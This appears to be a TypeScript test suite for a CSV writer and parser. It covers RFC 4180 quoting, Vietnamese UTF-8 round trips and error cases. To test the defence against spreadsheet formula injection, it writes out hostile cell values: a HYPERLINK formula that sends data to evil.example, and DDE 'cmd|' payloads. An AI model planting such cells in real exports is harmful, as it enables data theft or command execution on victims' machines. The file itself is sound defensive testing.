import fc from 'fast-check';
import { CsvSyntaxError, csvField, csvRecord, neutraliseFormula, parseCsv } from './csv.js';

describe('csvField', () => {
  it('leaves plain text as it is, Vietnamese included', () => {
    expect(csvField('Xây dựng mạng LAN kết nối WAN tỉnh')).toBe('Xây dựng mạng LAN kết nối WAN tỉnh');
    expect(csvField('')).toBe('');
    expect(csvField('  spaces kept  ')).toBe('  spaces kept  ');
    expect(csvField("1+1 and 'quotes' = 2")).toBe("1+1 and 'quotes' = 2");
    expect(csvField('-1')).toBe('-1');
    expect(csvField('+2.5')).toBe('+2.5');
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Chi tiết")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Chi tiết"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3+cmd|x', "'-2+3+cmd|x"],
    ['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises a cell a spreadsheet would run as a formula (OWASP): %j', (value, written) => {
    expect(csvField(value)).toBe(written);
    expect(parseCsv(csvRecord([value, '1']))).toEqual([["'" + value, '1']]);
  });

  it('quotes a field with a comma, a quote, CR or LF, doubling the quotes (RFC 4180)', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('Phần mềm "một cửa"')).toBe('"Phần mềm ""một cửa"""');
    expect(csvField('"')).toBe('""""');
    expect(csvField('dòng 1\ndòng 2')).toBe('"dòng 1\ndòng 2"');
    expect(csvField('dòng 1\r\ndòng 2')).toBe('"dòng 1\r\ndòng 2"');
    expect(csvField('cr\ronly')).toBe('"cr\ronly"');
  });
});

describe('csvRecord', () => {
  it('joins with commas and ends with CRLF', () => {
    expect(csvRecord(['2013', 'approved', 'Đầu tư, nâng cấp', '45000000'])).toBe('2013,approved,"Đầu tư, nâng cấp",45000000\r\n');
    expect(csvRecord([''])).toBe('\r\n');
  });

  it('is UTF-8 on the wire: Vietnamese letters are multi-byte and survive the round trip', () => {
    const record = csvRecord(['Đ', 'ữ', 'Thuê dịch vụ CNTT']);
    const bytes = Buffer.from(record, 'utf8');
    expect(bytes.subarray(0, 2)).toEqual(Buffer.from([0xc4, 0x90])); // Đ U+0110
    expect(bytes.includes(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false); // no byte-order mark
    expect(parseCsv(bytes.toString('utf8'))).toEqual([['Đ', 'ữ', 'Thuê dịch vụ CNTT']]);
  });
});

describe('parseCsv', () => {
  it('reads what csvRecord writes, whatever the text (property)', () => {
    const text = fc.string({ unit: fc.constantFrom('a', 'ư', 'Đ', ',', '"', '\r', '\n', ' ', '1') });
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 6 }).chain((width) => fc.array(fc.array(text, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 8 })), (records) => {
        // A single empty field makes an empty line, which RFC 4180 cannot tell from no record.
        fc.pre(records.every((r) => r.length > 1 || r[0] !== ''));
        expect(parseCsv(records.map(csvRecord).join(''))).toEqual(records.map((r) => r.map(neutraliseFormula)));
      }),
      { numRuns: 300 },
    );
  });

  it('takes a last record without a line terminator, and empty fields', () => {
    expect(parseCsv('a,b\r\n1,')).toEqual([
      ['a', 'b'],
      ['1', ''],
    ]);
    expect(parseCsv('')).toEqual([]);
  });

  it.each([
    ['an unclosed quote', 'a,b\r\n"open,1\r\n', /not closed/],
    ['a bare LF', 'a,b\n1,2\n', /LF instead of CRLF/],
    ['text after a closing quote', 'a,b\r\n"x"y,1\r\n', /follows a closing quote/],
    ['a quote inside an unquoted field', 'a,b\r\nx"y,1\r\n', /quote inside an unquoted field/],
    ['a record with too few fields', 'a,b\r\n1\r\n', /record 2: has 1 fields, the header has 2/],
    ['a bare CR', 'a,b\r1,2\r\n', /bare CR/],
  ])('refuses %s', (_name, text, message) => {
    expect(() => parseCsv(text)).toThrow(CsvSyntaxError);
    expect(() => parseCsv(text)).toThrow(message);
  });
});
